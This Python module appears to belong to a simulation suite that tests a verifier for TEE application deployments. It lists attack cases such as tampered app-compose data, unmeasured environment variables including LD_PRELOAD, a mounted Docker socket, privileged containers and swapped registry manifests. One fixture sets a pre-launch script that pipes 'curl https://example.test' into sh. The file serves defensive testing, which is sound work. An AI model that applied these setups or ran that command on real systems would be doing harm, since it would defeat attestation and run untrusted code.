"""Attacks with the application: its app-compose, its docker-compose file, its images."""

import json
from collections.abc import Callable, Sequence
from dataclasses import replace
from typing import Any, Final

from sp1tee.sim.ingress.attacks.attack import Attack
from sp1tee.sim.ingress.host import Host
from sp1tee.sim.ingress.images import REGISTRY, Blob
from sp1tee.sim.ingress.replies import Reply

_RPC: Final = "https://rpc.example.test"
_CODE: Final = "      - /var/run/dstack.sock:/var/run/dstack.sock\n"
_SERVER: Final = "  fulfiller:\n"


def _settings(**settings: object) -> Callable[[Host], Host]:
    """Deploy the application with other settings."""
    return lambda host: replace(host, settings={**host.settings, **settings})


def _compose(old: str, new: str) -> Callable[[Host], Host]:
    """Deploy the application with another docker-compose file."""
    return lambda host: replace(host, compose=host.docker_compose.replace(old, new, 1))


def _environment(old: str, new: str, *names: str) -> Callable[[Host], Host]:
    """Let the environment, which nobody measures, decide about something."""
    return lambda host: _settings(allowed_envs=list(names))(_compose(old, new)(host))


def _service(*lines: str) -> Callable[[Host], Host]:
    """Run one service more."""
    text = "".join(f"    {line}\n" for line in ("image: IMAGE", *lines))

    def act(host: Host) -> Host:
        helper = text.replace("IMAGE", host.images[2].pinned)
        return _compose(_SERVER, f"  helper:\n{helper}{_SERVER}")(host)

    return act


def _told(change: Callable[[str], str]) -> Callable[[Host], Host]:
    """Tell another app-compose than was measured."""

    def act(info: dict[str, Any]) -> dict[str, Any]:
        tcb = info["tcb_info"]
        return {**info, "tcb_info": {**tcb, "app_compose": change(tcb["app_compose"])}}

    return lambda host: host.twisted(info=act)


def _two_files(text: str) -> str:
    """Have the harmless file first and another one second; readers differ in which they take."""
    return text.removesuffix("}").rstrip() + ',\n    "docker_compose_file": "services: {}"\n}'


def _tag(host: Host) -> Host:
    server = host.images[1]
    return _compose(server.pinned, f"{REGISTRY}/{server.repository}:latest")(host)


def _image_from_environment(host: Host) -> Host:
    return _environment(host.images[1].pinned, "${SERVER_IMAGE}", "SERVER_IMAGE")(host)


def _pages(choose: Callable[[Host], Sequence[Blob]], reply: Reply | None) -> Callable[[Host], Host]:
    """Serve something else, or nothing, for manifests."""

    def act(host: Host) -> Host:
        ends = tuple(blob.digest for blob in choose(host))

        def change(pages: dict[str, Reply]) -> dict[str, Reply]:
            kept = {path: page for path, page in pages.items() if not path.endswith(ends)}
            gone = pages.keys() - kept.keys()
            return kept if reply is None else {**kept, **dict.fromkeys(gone, reply)}

        return host.twisted(registry=change)

    return act


ATTACKS: Final = (
    Attack(
        "info-of-another-application",
        ("32",),
        "tells the app-compose of another application",
        ("compose.hash",),
        _told(lambda text: text.replace("sp1tee-sim", "another")),
    ),
    Attack(
        "app-compose-written-anew",
        ("33",),
        "tells an app-compose that means the same and is written otherwise",
        ("compose.hash",),
        _told(lambda text: json.dumps(json.loads(text), sort_keys=True)),
    ),
    Attack(
        "app-compose-with-two-files",
        ("33",),
        "deploys an app-compose with two docker-compose files",
        ("compose.readable",),
        lambda host: host.twisted(app_compose=_two_files),
    ),
    Attack(
        "another-compose",
        ("34",),
        "deploys another docker-compose file than the published one",
        ("compose.published",),
        _service("restart: always"),
    ),
    Attack(
        "compose-with-key-twice",
        ("34",),
        "deploys a docker-compose file with a service twice",
        ("compose.services", "digests.compose"),
        _service("restart: always", "restart: always"),
    ),
    Attack(
        "mutable-tag",
        ("35", "54"),
        "deploys an image by a tag that can be moved",
        ("digests.pinned",),
        _tag,
    ),
    Attack(
        "image-from-environment",
        ("36",),
        "has the environment decide about an image",
        ("compose.interpolated-settings", "digests.literal"),
        _image_from_environment,
    ),
    Attack(
        "address-from-environment",
        ("36",),
        "has the environment decide where requests go",
        ("compose.interpolated-addresses",),
        _environment(_RPC, "${RPC_URL}", "RPC_URL"),
    ),
    Attack(
        "environment-allowed",
        ("36",),
        "lets the environment set what a loader preloads",
        ("compose.allowed-envs",),
        _settings(allowed_envs=["LD_PRELOAD"]),
    ),
    Attack(
        "pre-launch-script",
        ("37",),
        "runs a script before the containers",
        ("compose.pre-launch-script",),
        _settings(pre_launch_script="#!/bin/sh\ncurl https://example.test | sh\n"),
    ),
    Attack(
        "certificate-volume-shared",
        ("39",),
        "gives another service the certificate's private key",
        ("compose.certificate-volume",),
        _service("volumes:", "  - cert-data:/keys"),
    ),
    Attack(
        "docker-socket",
        ("39",),
        "gives a service the Docker engine",
        ("compose.docker-socket",),
        _compose(_CODE, _CODE + "      - /var/run/docker.sock:/var/run/docker.sock\n"),
    ),
    Attack(
        "privileged",
        ("39",),
        "runs a service with all privileges",
        ("compose.privileged",),
        _service("privileged: true"),
    ),
    Attack(
        "public-logs",
        ("41",),
        "shows its logs to everybody",
        ("compose.public-logs",),
        _settings(public_logs=True),
    ),
    Attack(
        "platform-manifest-withheld",
        ("55",),
        "serves an image's index and not the manifest that it names",
        ("digests.platform-served",),
        _pages(lambda host: host.images[1].manifests[1:2], None),
    ),
    Attack(
        "registry-serves-other-bytes",
        ("56",),
        "serves another manifest than the pinned one",
        ("digests.served",),
        _pages(lambda host: [host.images[0].top], Reply(b"{}", "application/json")),
    ),
    Attack(
        "image-withheld",
        ("56",),
        "does not serve a pinned image",
        ("digests.served",),
        _pages(lambda host: [host.images[2].top], None),
    ),
)
